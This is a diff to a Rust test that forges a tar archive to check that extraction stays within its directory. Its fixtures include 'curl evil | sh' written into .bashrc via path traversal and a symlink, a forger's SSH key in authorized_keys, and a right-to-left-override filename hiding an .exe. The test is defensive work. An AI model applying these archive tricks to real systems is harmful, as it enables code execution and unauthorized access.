@@ -1144,7 +1144,8 @@ fn a_lawyer_opens_safely_with_any_key_and_the_documented_tar_route_stays_in_its_
     let forged_tar = v.path("forged.tar");
     {
         let mut builder = tar::Builder::new(std::fs::File::create(&forged_tar).unwrap());
-        let mut file = |path: &str, bytes: &[u8]| {
+        // Names written raw into the header, as a forger would (the tar crate refuses `..`).
+        let file = |builder: &mut tar::Builder<std::fs::File>, path: &str, bytes: &[u8]| {
             let mut header = tar::Header::new_gnu();
             header.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
             header.set_size(bytes.len() as u64);
@@ -1152,10 +1153,14 @@ fn a_lawyer_opens_safely_with_any_key_and_the_documented_tar_route_stays_in_its_
             header.set_cksum();
             builder.append(&header, bytes).unwrap();
         };
-        file(".bashrc", b"curl evil | sh\n");
-        file("../.bashrc", b"curl evil | sh\n");
-        file(".ssh/authorized_keys", b"ssh-ed25519 AAAA forger\n");
-        file("report\u{202E}fdp.exe", b"MZ");
+        file(&mut builder, ".bashrc", b"curl evil | sh\n");
+        file(&mut builder, "../.bashrc", b"curl evil | sh\n");
+        file(
+            &mut builder,
+            ".ssh/authorized_keys",
+            b"ssh-ed25519 AAAA forger\n",
+        );
+        file(&mut builder, "report\u{202E}fdp.exe", b"MZ");
         let mut link = tar::Header::new_gnu();
         link.set_entry_type(tar::EntryType::Symlink);
         link.set_path("up").unwrap();
@@ -1163,15 +1168,7 @@ fn a_lawyer_opens_safely_with_any_key_and_the_documented_tar_route_stays_in_its_
         link.set_size(0);
         link.set_cksum();
         builder.append(&link, std::io::empty()).unwrap();
-        let mut file = |path: &str, bytes: &[u8]| {
-            let mut header = tar::Header::new_gnu();
-            header.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
-            header.set_size(bytes.len() as u64);
-            header.set_mode(0o644);
-            header.set_cksum();
-            builder.append(&header, bytes).unwrap();
-        };
-        file("up/.bashrc", b"curl evil | sh\n");
+        file(&mut builder, "up/.bashrc", b"curl evil | sh\n");
         builder.finish().unwrap();
     }
     let forged = v.path("forged.age");
